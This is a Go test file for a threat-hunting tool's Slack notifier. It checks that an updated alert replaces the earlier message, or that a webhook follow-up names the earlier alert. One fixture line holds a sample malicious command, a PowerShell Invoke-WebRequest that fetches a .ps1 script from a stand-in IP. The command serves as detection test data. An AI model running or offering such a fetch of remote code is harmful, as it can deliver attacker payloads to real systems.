package slack

import (
	"context"
	"strings"
	"testing"

	"github.com/huntwatch/huntwatch/handler/hunt"
)

// Update edits the earlier message in place (chat.update), says it was updated, and returns that
// message; through a webhook, which cannot edit, it posts a follow-up naming the earlier alert.
func TestUpdateReplacesTheEarlierMessage(t *testing.T) {
	s := newSetup(t, false, nil)
	prior, _ := notified(t, s)
	f := *runCommandFinding([]string{"Invoke-WebRequest http://203.0.113.9/x.ps1"})
	f.Fingerprint = "fp-with-commands"
	rec := &hunt.Record{Fingerprint: f.Fingerprint, Finding: &f}
	ref, err := s.n.Update(context.Background(), runCommandHunt(), prior, rec)
	if err != nil {
		t.Fatal(err)
	}
	msgs := s.fs.Messages()
	if ref != prior.Message || len(msgs) != 1 {
		t.Fatalf("ref %+v (want %+v), %d messages (want the one, updated)", ref, prior.Message, len(msgs))
	}
	body := string(msgs[0].Blocks)
	if !strings.Contains(body, "fp-with-commands") || !strings.Contains(body, "Updated") || !strings.Contains(body, prior.Fingerprint) {
		t.Errorf("the updated message lacks the new fingerprint, the note or the old fingerprint:\n%s", body)
	}

	w := newSetup(t, true, nil)
	ref, err = w.n.Update(context.Background(), runCommandHunt(), prior, rec)
	if err != nil {
		t.Fatal(err)
	}
	if msgs := w.fs.Messages(); len(msgs) != 1 || !strings.Contains(string(msgs[0].Blocks), prior.Fingerprint) || ref.Where != "webhook" {
		t.Errorf("webhook: ref %+v, messages %+v: want one follow-up naming the earlier alert", ref, msgs)
	}
}
